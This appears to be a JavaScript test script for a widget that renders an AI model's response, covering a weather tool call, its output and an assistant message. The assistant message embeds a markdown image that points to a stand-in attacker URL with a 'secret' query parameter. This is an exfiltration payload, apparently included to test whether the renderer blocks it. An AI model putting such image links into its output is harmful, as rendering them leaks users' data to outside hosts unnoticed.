import { document } from "/work/wt/view/js/test/dom.mjs";
import { Model, until } from "/work/wt/view/js/test/model.mjs";
const { default: widget } = await import("/work/wt/view/js/response_view.js");
const model = new Model({ uid: "u-tools" });
widget.initialize({ model });
const el = document.createElement("div"); document.body.append(el);
widget.render({ model, el });
model.custom({ kind: "reset", seq: 1, blocks: [
    { index: 1, kind: "function_call", done: true, item: { type: "function_call", name: "get_weather", call_id: "c1", arguments: '{"city":"Paris"}' } },
    { index: 2, kind: "function_call_output", done: true, item: { type: "function_call_output", call_id: "c1", output: '{"temp": 21, "sky": "clear"}' } },
    { index: 4, kind: "message", done: true, item: { type: "message", role: "assistant", content: [{ type: "output_text", text: "![a](https://evil.example/leak?d=secret) ![c](/files/plot.png)" }] } },
]});
model.set("finished", true);
await new Promise(r => setTimeout(r, 300));
console.log(el.innerHTML.slice(0, 3000));
